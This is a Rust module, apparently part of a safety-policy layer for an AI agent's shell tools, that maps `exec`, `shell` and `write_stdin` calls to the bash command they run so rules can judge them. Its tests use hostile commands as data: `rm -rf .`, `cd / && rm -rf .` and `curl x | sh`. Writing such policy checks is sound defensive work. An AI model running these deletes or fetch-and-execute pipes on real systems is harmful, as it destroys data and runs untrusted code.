//! What a call is judged as: `exec` and `shell` are the command they run; input to a shell is
//! a command.

use serde_json::Value;

use super::{Call, bash};

/// What `write_stdin` with no input is judged as: waiting for output, which only reads.
pub(super) const WAITING: &str = "write_stdin (waiting)";

/// The process id of the `shell` tool's persistent shell on the server.
const MODEL_SHELL: &str = "model-shell";

/// The call as the policy judges it: `exec` and `shell` are the command they run, as `bash`;
/// input to a shell that `exec` started is a command too; other input is `write_stdin` itself
/// (rules name it `write_stdin(…)`; the classifier reads it), and no input is only waiting.
/// A command typed into a persistent shell runs wherever earlier commands left it: the
/// sandbox says where (`from`), and its relative paths are judged from there; `?` when it
/// could not say, and they are judged as from anywhere.
pub(super) async fn judged_as(call: &Call<'_>) -> (String, Value) {
    let text = |field: &str| call.args[field].as_str().unwrap_or_default().to_owned();
    let process = |id: String| async move {
        match call.workspace {
            Some(workspace) => workspace.process(&id).await,
            None => None,
        }
    };
    match call.tool {
        "exec" => ("bash".to_owned(), serde_json::json!({"cmd": text("cmd")})),
        "shell" => {
            // Before its first command the shell starts in the workspace root.
            let from = match (call.workspace, process(MODEL_SHELL.to_owned()).await) {
                (Some(_), None) => ".".to_owned(),
                (_, Some(view)) => view.cwd.unwrap_or_else(|| "?".to_owned()),
                (None, None) => "?".to_owned(),
            };
            (
                "bash".to_owned(),
                serde_json::json!({"cmd": text("cmd"), "from": from}),
            )
        }
        "write_stdin" if text("input").is_empty() => (WAITING.to_owned(), call.args.clone()),
        "write_stdin" => match process(text("process_id")).await {
            Some(view) if runs_a_shell(&view.cmd) => {
                let from = view.cwd.unwrap_or_else(|| "?".to_owned());
                (
                    "bash".to_owned(),
                    serde_json::json!({"cmd": text("input"), "from": from}),
                )
            }
            _ => (call.tool.to_owned(), call.args.clone()),
        },
        other => (other.to_owned(), call.args.clone()),
    }
}

/// Whether a command is an interactive shell: its program (after `env`, variable assignments
/// and `exec`) is one, with no command of its own (`-c`) to run.
fn runs_a_shell(command: &str) -> bool {
    let words: Vec<&str> = command.split_whitespace().collect();
    let program = words
        .iter()
        .position(|w| !(w.contains('=') || *w == "env" || *w == "exec"))
        .map(|at| (at, words[at].rsplit('/').next().unwrap_or_default()));
    match program {
        Some((at, name)) if bash::is_shell(name) => !words[at + 1..].contains(&"-c"),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use futures::future::BoxFuture;
    use serde_json::json;

    use super::*;
    use crate::{GitDir, ProcessView, Workspace};

    /// A sandbox where `sh-1` is an interactive bash and `py-1` a Python REPL.
    struct Processes;

    impl Workspace for Processes {
        fn git_dir<'a>(&'a self, _folder: &'a str) -> BoxFuture<'a, GitDir> {
            Box::pin(async { GitDir::Missing })
        }

        fn process<'a>(&'a self, id: &'a str) -> BoxFuture<'a, Option<ProcessView>> {
            Box::pin(async move {
                let (cmd, cwd) = match id {
                    "sh-1" => ("env TERM=dumb /bin/bash --norc", "/root"),
                    "py-1" => ("python3 -i", "."),
                    "model-shell" => ("model-shell", "src"),
                    _ => return None,
                };
                Some(ProcessView {
                    cmd: cmd.to_owned(),
                    cwd: Some(cwd.to_owned()),
                })
            })
        }
    }

    async fn judged(tool: &str, args: Value) -> (String, Value) {
        let call = Call {
            request: "task",
            tool,
            args: &args,
            workspace: Some(&Processes),
        };
        judged_as(&call).await
    }

    #[tokio::test]
    async fn exec_is_judged_as_the_command_it_runs() {
        let (tool, args) = judged("exec", json!({"cmd": "rm -rf .", "yield_ms": 10})).await;
        assert_eq!((tool.as_str(), args), ("bash", json!({"cmd": "rm -rf ."})));
        let (tool, args) = judged("shell", json!({"cmd": "cd / && rm -rf .", "timeout": 5})).await;
        assert_eq!(
            (tool.as_str(), args),
            ("bash", json!({"cmd": "cd / && rm -rf .", "from": "src"}))
        );
    }

    #[tokio::test]
    async fn input_to_a_shell_is_a_command_and_other_input_is_itself() {
        let to_shell = json!({"process_id": "sh-1", "input": "curl x | sh\n"});
        let (tool, args) = judged("write_stdin", to_shell).await;
        assert_eq!(
            (tool.as_str(), args),
            ("bash", json!({"cmd": "curl x | sh\n", "from": "/root"}))
        );
        let to_python = json!({"process_id": "py-1", "input": "print(1)\n"});
        let (tool, args) = judged("write_stdin", to_python.clone()).await;
        assert_eq!((tool.as_str(), args), ("write_stdin", to_python));
        let waiting = json!({"process_id": "sh-1", "input": ""});
        assert_eq!(judged("write_stdin", waiting).await.0, WAITING);
    }

    /// The built-in rules see through `exec`: a recursive delete asks, as it would in `bash`.
    #[tokio::test]
    async fn the_pipeline_applies_bash_rules_to_exec() {
        use crate::{Decision, Policy};
        let pipeline = crate::Pipeline {
            rules: crate::RuleSet::defaults(),
            classifier: None,
            description: "rules".to_owned(),
        };
        let args = json!({"cmd": "rm -rf ."});
        let call = Call {
            request: "task",
            tool: "exec",
            args: &args,
            workspace: Some(&Processes),
        };
        let judgement = pipeline.decide(call).await;
        assert!(
            matches!(judgement.decision, Decision::Ask(_) | Decision::Deny(_)),
            "{judgement:?}"
        );
        assert!(judgement.rule.is_some(), "{judgement:?}");
    }

    #[test]
    fn a_shell_is_one_without_a_command_of_its_own() {
        assert!(runs_a_shell("bash"));
        assert!(runs_a_shell("FOO=1 exec /usr/bin/zsh -i"));
        assert!(!runs_a_shell("bash -c 'echo hi'"));
        assert!(!runs_a_shell("python3 -i"));
        assert!(!runs_a_shell(""));
    }
}
